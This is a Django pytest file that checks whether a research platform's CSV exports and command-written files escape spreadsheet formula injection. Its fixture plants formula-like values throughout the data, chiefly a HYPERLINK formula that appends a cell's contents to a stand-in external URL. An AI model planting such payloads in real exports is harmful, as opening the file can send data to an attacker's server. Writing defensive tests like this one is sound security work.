"""Attack: enter text that begins like a formula in all fields; no CSV must contain it unprotected."""

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from django.db import transaction
from django.urls import reverse

from studies.analysis.explorer.plots import PARTS as EXPLORED
from studies.collection.arrival.arrivals import Arrival, end_submission, record_arrival
from studies.collection.arrival.raters import Participant
from studies.design.versions import load_newest_version
from studies.enums import PanelKind, RaterOutcome
from studies.models import Candidate, Exclusion, Identity, Image, Item, Payment, System
from studies.publishing.exporting.files import FILES
from studies.publishing.exporting.results import RESULT_FORMATS
from studies.publishing.report_pages import PARTS as REPORTED
from tests.factories.studies import NOW, make_rater, make_user
from tests.studies.page_rights import NAME, PAGES, make_report
from tests.studies.scored import make_scored_study

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"look")'
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n")
HASH = "f" * 64


@pytest.fixture
def study():
    """A study in which every text that somebody else gives begins like a formula."""
    study = make_scored_study(owner=make_user("=owner"))
    for number, image in enumerate(Image.objects.all()):
        Image.objects.filter(pk=image.pk).update(key=f"{FORMULA}{number}")
    for number, candidate in enumerate(Candidate.objects.all()):
        Candidate.objects.filter(pk=candidate.pk).update(key=f"+{number}+1", text=FORMULA)
    for number, system in enumerate(System.objects.all()):
        System.objects.filter(pk=system.pk).update(name=f"@SUM({number})")
    Item.objects.update(category="-1+1")
    rater = make_rater(study, "=2+2", identity_hash=HASH)
    Exclusion.objects.create(rater=rater, reason=FORMULA, decided_at=NOW)
    participant = Participant(PanelKind.GENERIC, FORMULA)
    Identity.objects.create(identity_hash=HASH, panel="generic", participant_id=FORMULA, created_at=NOW)
    visit = record_arrival(rater, Arrival(PanelKind.GENERIC, participant, session_id="+visit"), now=NOW)
    end_submission(visit, outcome=RaterOutcome.FINISHED, code="@CODE", now=NOW)
    Payment.objects.create(rater=rater, amount="1.50", currency="EUR", reason=FORMULA, decided_at=NOW)
    make_report(study)
    version = load_newest_version(study)
    version.design["pay"] = {"currency": "EUR", "reward": 1.0}
    version.save()
    return study


def read_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode(), newline=""), strict=True) for cell in row]


def find_formulas(content: bytes) -> list[str]:
    return [cell for cell in read_cells(content) if cell.startswith(SIGNS) and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        return float(cell) is not None
    except ValueError:
        return False


def list_addresses():
    """Yield the address of every CSV of researchers' pages and of the API, from the tables that they are made from."""
    for space in ("studies", "api"):
        yield from (_make(space, "export", part, form) for part, form in FILES)
        yield from (_make(space, "report_part", part, form, number=1) for part, form in REPORTED)
        yield from (_make(space, "explore_part", part, form) for part, (forms, _) in EXPLORED.items() for form in forms)
        yield from (reverse(f"{space}:results", kwargs={**NAME, "file_format": form}) for form in RESULT_FORMATS)
        for name in ("judgments_csv" if space == "api" else "judgments", "disagreements_csv", "history_csv"):
            yield reverse(f"{space}:{name}", kwargs=NAME)
        yield reverse(f"{space}:scatter", kwargs={**NAME, "file_format": "csv"})


def _make(space, route, part, form, **extra):
    return reverse(f"{space}:{route}", kwargs={**NAME, **extra, "part": part, "file_format": form})


FOR_PROGRAMS = "/api/v1/studies/study/judgments.csv"
"""The one file that has text as it was given, since it is read again by programs."""


def test_files_that_are_sent_run_nothing(client, study) -> None:
    client.force_login(study.owner)
    addresses = [address for address in list_addresses() if address.endswith(".csv")]

    answers = {address: client.get(address, {"metric": "length"}) for address in addresses}

    sent = {address: b"".join(one) for address, one in answers.items() if one.status_code == 200}
    found = {address: find_formulas(content) for address, content in sent.items() if address != FOR_PROGRAMS}
    assert {address: cells for address, cells in found.items() if cells} == {}
    planted = [address for address, content in sent.items() if f"'{FORMULA}" in "".join(read_cells(content))]
    assert {"/studies/study/judgments.csv", "/studies/study/exports/scores.csv"} < set(planted)
    assert len(sent) >= len(addresses) - 4


def test_every_route_of_csv_is_asked() -> None:
    named = {name for name in PAGES if name.endswith("_csv")} | {"studies:judgments"}

    asked = set(list_addresses())
    assert {reverse(name, kwargs=NAME) for name in named} <= asked


def test_files_that_commands_write_run_nothing(study, tmp_path) -> None:
    bundle = tmp_path / "bundle.zip"
    call_command("payments", "study", "--payees", str(tmp_path / "payees.csv"))
    call_command("panel_report", "study", "--identities", str(tmp_path / "identities.csv"))
    call_command("show_report", "study", 1, "--out", str(tmp_path / "report.csv"))
    with transaction.atomic():
        call_command("make_bundle", "study", 1, out=bundle)
    with zipfile.ZipFile(bundle) as archive:
        files = {name: archive.read(name) for name in archive.namelist() if name.endswith(".csv")}
    files |= {path.name: path.read_bytes() for path in tmp_path.glob("*.csv")}

    assert len(files) >= 5
    assert {name: found for name, content in files.items() if (found := find_formulas(content))} == {}
    assert all(f"'{FORMULA}" in read_cells(files[name]) for name in ("payees.csv", "identities.csv"))
